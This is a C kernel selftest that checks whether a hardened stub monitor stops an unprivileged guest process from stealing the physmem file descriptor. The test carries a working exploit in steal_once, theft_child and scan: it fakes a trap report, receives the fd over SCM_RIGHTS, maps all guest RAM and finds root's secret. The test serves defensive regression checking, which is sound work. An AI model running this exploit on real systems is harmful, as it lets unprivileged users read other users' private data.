// SPDX-License-Identifier: GPL-2.0
/*
 * Steal the physmem fd and read another user's data.
 *
 * The unpatched monitor believes the futex word in stub_data, so an
 * unprivileged guest process can fake a trap report for a guest syscall
 * and keep running while the kernel serves it.
 * If that syscall populates a page, the monitor queues a host mmap of
 * the new frame and, before waking the stub, sends the physmem fd over
 * the stub's socket, fd 0, with SCM_RIGHTS.  The process is
 * still running and receives the fd first, with recvmsg through the
 * gadget, then maps physmem at offset 0 through the gadget: all of the
 * guest's RAM, including a secret root wrote to a 0600 file after the
 * attacker was forked.
 *
 * The faked syscall is clock_gettime() into a page the process never
 * touched.  The syscall number comes from the siginfo and the arguments
 * from the mcontext of the last real trap frame, both in stub_data, in
 * the unpatched layout (stub_util.h).
 *
 * The hardened kernel must not let the fd reach the process: no fd
 * arrives, the recvmsg or mmap is refused, or the process is killed.
 * Its stub keeps the memory file at fd 1 and never sends it: there the
 * process forges the same report through the hardened report path, so
 * that the monitor maps the fresh frame before it answers, and then maps
 * fd 1 through the gadget, as it would map a stolen fd.
 */
#include <sys/stat.h>
#include "stub_forge.h"

#define ATTEMPTS	8
#define MAX_CANDS	16
#define HEX_LEN		32

/* The secret is TAG followed by HEX_LEN lowercase hex digits. */
static const char secret_tag[] = "stub-physmem-secret:";

struct theft_result {
	int stage;
	int open_errno;		/* opening the secret file directly */
	int attempts;
	/*
	 * fakes after which the futex word read "in child" again (the
	 * monitor resumed)
	 */
	int answered;
	int hardened;		/* forged through the hardened report path */
	int fd;			/* host fd received (or mapped), -1 if none */
	int fd_attempt;
	long recv_ret;
	long map_ret;
	unsigned long map_size;
	int ncand;
	unsigned long cand_off[MAX_CANDS];
	char cand[MAX_CANDS][sizeof(secret_tag) + HEX_LEN];
	char err[128];
};

enum { ST_START, ST_FAKING, ST_SCANNING, ST_DONE };

FIXTURE(stub_physmem) {
	struct theft_result *r;
	char path[64];
};

FIXTURE_SETUP(stub_physmem)
{
	ASSERT_STUB_FOUND();
	stub_tsc_calibrate();
	self->r = stub_shared_alloc(sizeof(*self->r));
	ASSERT_NE(NULL, self->r);
	self->path[0] = 0;
}

FIXTURE_TEARDOWN(stub_physmem)
{
	if (self->path[0])
		unlink(self->path);
	munmap(self->r, sizeof(*self->r));
}

/* Size of guest "physical" memory: the end of the highest zone. */
static unsigned long physmem_size(void)
{
	unsigned long start = 0, spanned = 0, end = 0;
	char line[256];
	FILE *f = fopen("/proc/zoneinfo", "r");

	if (!f)
		return 0;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, " spanned %lu", &spanned) == 1)
			continue;
		if (sscanf(line, " start_pfn: %lu", &start) == 1 && spanned &&
		    (start + spanned) * STUB_PAGE > end)
			end = (start + spanned) * STUB_PAGE;
	}
	fclose(f);
	return end;
}

static int is_hex(const char *p, int n)
{
	int i;

	for (i = 0; i < n; i++)
		if (!((p[i] >= '0' && p[i] <= '9') || (p[i] >= 'a' && p[i] <= 'f')))
			return 0;
	return 1;
}

static void scan(struct theft_result *r, const char *mem, unsigned long size)
{
	size_t tl = sizeof(secret_tag) - 1;
	const char *p = mem, *end = mem + size;

	while (r->ncand < MAX_CANDS &&
	       (p = memmem(p, end - p, secret_tag, tl))) {
		if (p + tl + HEX_LEN <= end && is_hex(p + tl, HEX_LEN)) {
			memcpy(r->cand[r->ncand], p, tl + HEX_LEN);
			r->cand[r->ncand][tl + HEX_LEN] = 0;
			r->cand_off[r->ncand] = p - mem;
			r->ncand++;
		}
		p += tl;
	}
}

/* One try: fake clock_gettime(@ts), grab an fd from fd 0 if one comes. */
static int steal_once(struct theft_result *r, struct timespec *ts)
{
	unsigned long end;
	int fd = -1, answered = 0;
	long n;

	stub_prefault(&stub_rx, sizeof(stub_rx));
	stub_prefault_stack(65536);
	syscall(SYS_getppid);		/* a fresh trap frame to fake from */
	if (stub_fake_syscall(SYS_clock_gettime, CLOCK_MONOTONIC,
			      (long)ts, 0) < 0)
		return -2;
	end = stub_tsc_deadline(2000);
	while (!stub_tsc_passed(end)) {
		/* the monitor ran the fake syscall and resumed "us" */
		if (stub_data()->futex == STUB_FUTEX_IN_CHILD)
			answered = 1;
		n = stub_recv_fd();
		if (n == -EAGAIN || n == -EINTR)
			continue;
		r->recv_ret = n;
		if (n >= 0)
			fd = n;
		break;
	}
	r->answered += answered;
	/*
	 * Back to normal: a real trap ends whatever the monitor waits for.
	 * The batch the monitor sent is lost, so the guest now believes @ts
	 * is mapped on the host while it is not; touching it would fault
	 * for ever.  It is never touched again.
	 */
	syscall(SYS_getppid);
	return fd;
}

/* The hardened stub's memory file descriptor (STUB_MEM_FD) */
#define HARDENED_MEM_FD	1

static void theft_hardened(struct theft_result *r, struct timespec *ts)
{
	long ret;

	r->hardened = 1;
	r->attempts = 1;
	r->map_size = physmem_size();
	syscall(SYS_getppid);		/* a fresh trap frame to forge from */
	if (stub_forge(0, SIGSYS, SYS_clock_gettime, CLOCK_MONOTONIC,
		       (long)ts, 0)) {
		snprintf(r->err, sizeof(r->err),
			 "stub_data offsets out of range: nothing to forge");
		return;
	}
	r->answered = ts->tv_sec || ts->tv_nsec;
	r->stage = ST_SCANNING;
	ret = stub_syscall6(SYS_mmap, STUB_PHYSMEM_ADDR, r->map_size,
			    PROT_READ, MAP_SHARED | MAP_FIXED, HARDENED_MEM_FD,
			    0);
	r->map_ret = ret;
	if (ret == (long)STUB_PHYSMEM_ADDR) {
		r->fd = HARDENED_MEM_FD;
		scan(r, (const char *)STUB_PHYSMEM_ADDR, r->map_size);
		stub_syscall2(SYS_munmap, STUB_PHYSMEM_ADDR, r->map_size);
	}
}

static void theft_child(struct theft_result *r, const char *path, int go_fd)
{
	char *fresh;
	char c;
	int i, fd = -1;

	stub_prefault(r, sizeof(*r));
	r->fd = -1;
	if (stub_drop_privs()) {
		snprintf(r->err, sizeof(r->err), "setuid failed");
		_exit(1);
	}
	if (read(go_fd, &c, 1) != 1) {
		snprintf(r->err, sizeof(r->err), "no go from the parent");
		_exit(1);
	}
	i = open(path, O_RDONLY);
	r->open_errno = i < 0 ? errno : 0;
	if (i >= 0)
		close(i);
	fresh = mmap(NULL, ATTEMPTS * STUB_PAGE, PROT_READ | PROT_WRITE,
		     MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (fresh == MAP_FAILED) {
		snprintf(r->err, sizeof(r->err), "mmap failed");
		_exit(1);
	}
	r->stage = ST_FAKING;
	if (!stub_find_report()) {
		theft_hardened(r, (struct timespec *)fresh);
		r->stage = ST_DONE;
		_exit(0);
	}
	for (i = 0; i < ATTEMPTS && fd < 0; i++) {
		struct timespec *ts = (void *)(fresh + i * STUB_PAGE);

		fd = steal_once(r, ts);
		r->attempts = i + 1;
		if (fd == -2) {
			snprintf(r->err, sizeof(r->err),
				 "stub_data offsets out of range: not the unpatched layout, nothing to fake");
			fd = -1;
			break;
		}
	}
	r->fd = fd;
	r->fd_attempt = i;
	if (fd >= 0) {
		r->stage = ST_SCANNING;
		r->map_size = physmem_size();
		r->map_ret = stub_syscall6(SYS_mmap, STUB_PHYSMEM_ADDR,
					   r->map_size, PROT_READ,
					   MAP_SHARED | MAP_FIXED, fd, 0);
		if (r->map_ret == (long)STUB_PHYSMEM_ADDR) {
			scan(r, (const char *)STUB_PHYSMEM_ADDR, r->map_size);
			stub_syscall2(SYS_munmap, STUB_PHYSMEM_ADDR,
				      r->map_size);
		}
		stub_syscall1(SYS_close, fd);
	}
	r->stage = ST_DONE;
	_exit(0);
}

/* Log formats, kept on one line so that they can be grepped for */
#define ATTACKER_STATE_FMT "attacker %s, stage %d: %d attempt(s), %d answered, fd %d, recvmsg gave %ld, open(secret) errno %d"

TEST_F_TIMEOUT(stub_physmem, physmem_fd_cannot_be_stolen, 100)
{
	struct theft_result *r = self->r;
	char secret[sizeof(secret_tag) + HEX_LEN + 1];
	unsigned char rnd[HEX_LEN / 2];
	int go[2], fd, i, status, found = -1;
	char buf[64];
	pid_t pid;

	/* The file exists before the fork, the secret only after it. */
	snprintf(self->path, sizeof(self->path), "/tmp/stub-physmem.XXXXXX");
	fd = mkstemp(self->path);
	ASSERT_GE(fd, 0);
	ASSERT_EQ(0, fchmod(fd, 0600));
	ASSERT_EQ(0, pipe(go));
	fflush(NULL);
	pid = fork();
	ASSERT_GE(pid, 0);
	if (pid == 0) {
		close(go[1]);
		theft_child(r, self->path, go[0]);
	}
	close(go[0]);

	{
		int rfd = open("/dev/urandom", O_RDONLY);

		ASSERT_GE(rfd, 0);
		ASSERT_EQ((ssize_t)sizeof(rnd), read(rfd, rnd, sizeof(rnd)));
		close(rfd);
	}
	snprintf(secret, sizeof(secret), "%s", secret_tag);
	for (i = 0; i < (int)sizeof(rnd); i++)
		snprintf(secret + sizeof(secret_tag) - 1 + 2 * i, 3, "%02x", rnd[i]);
	ASSERT_EQ((ssize_t)strlen(secret), write(fd, secret, strlen(secret)));
	close(fd);
	ASSERT_EQ(1, write(go[1], "g", 1));
	close(go[1]);

	if (!stub_wait_child(pid, 80000, &status)) {
		stub_kill_wait(pid, 5000, &status);
		STUB_FAIL(return,
			  "attacker still running after 80 s (stage %d, attempt %d)",
			  r->stage, r->attempts);
	}
	TH_LOG(ATTACKER_STATE_FMT, stub_status_str(status, buf, sizeof(buf)), r->stage, r->attempts,
	       r->answered, r->fd, r->recv_ret, r->open_errno);
	if (r->stage < ST_FAKING)
		STUB_FAIL(return, "set-up failed: %s", r->err);
	if (r->hardened)
		TH_LOG("forged through the hardened report path: %s; mmap of fd %d %s %#lx",
		       r->answered ? "answered" : "not answered",
		       HARDENED_MEM_FD, r->stage == ST_DONE ? "returned" :
		       "did not return, at", r->map_ret ? : STUB_PHYSMEM_ADDR);
	if (r->err[0])
		TH_LOG("%s", r->err);
	for (i = 0; i < r->ncand; i++)
		if (!strcmp(r->cand[i], secret))
			found = i;
	if (found >= 0)
		STUB_VULNERABLE(return,
				"uid %d got host fd %d (physmem) %s on attempt %d, mapped %lu MiB of it and found root's secret \"%s\" from %s (mode 0600, open() gave errno %d) at physmem offset %#lx",
				STUB_NOBODY, r->fd,
				r->hardened ? "from the stub after a forged report" :
					      "with a faked trap + recvmsg",
				r->fd_attempt,
				r->map_size >> 20, r->cand[found], self->path,
				r->open_errno, r->cand_off[found]);
	if (r->fd >= 0 && r->hardened)
		STUB_VULNERABLE(return,
				"uid %d mapped %lu MiB of the stub's memory fd %d after a forged report (%d candidate(s), secret not found)",
				STUB_NOBODY, r->map_size >> 20, r->fd, r->ncand);
	if (r->hardened && !r->answered)
		STUB_FAIL(return,
			  "the forged clock_gettime() report was not answered: nothing tested");
	if (r->fd >= 0)
		STUB_VULNERABLE(return,
				"uid %d received host fd %d over the stub socket after a faked trap (mmap of it returned %#lx, %d candidate(s), secret not found)",
				STUB_NOBODY, r->fd, r->map_ret,
				r->ncand);
	if (r->stage == ST_DONE) {
		ASSERT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0);
		TH_LOG("defended: no fd reached the process");
		return;
	}
	if (!stub_defended_kill(status))
		STUB_FAIL(return, "attacker died in an unexpected way");
	TH_LOG("defended: the attacker was killed");
}

TEST_HARNESS_MAIN
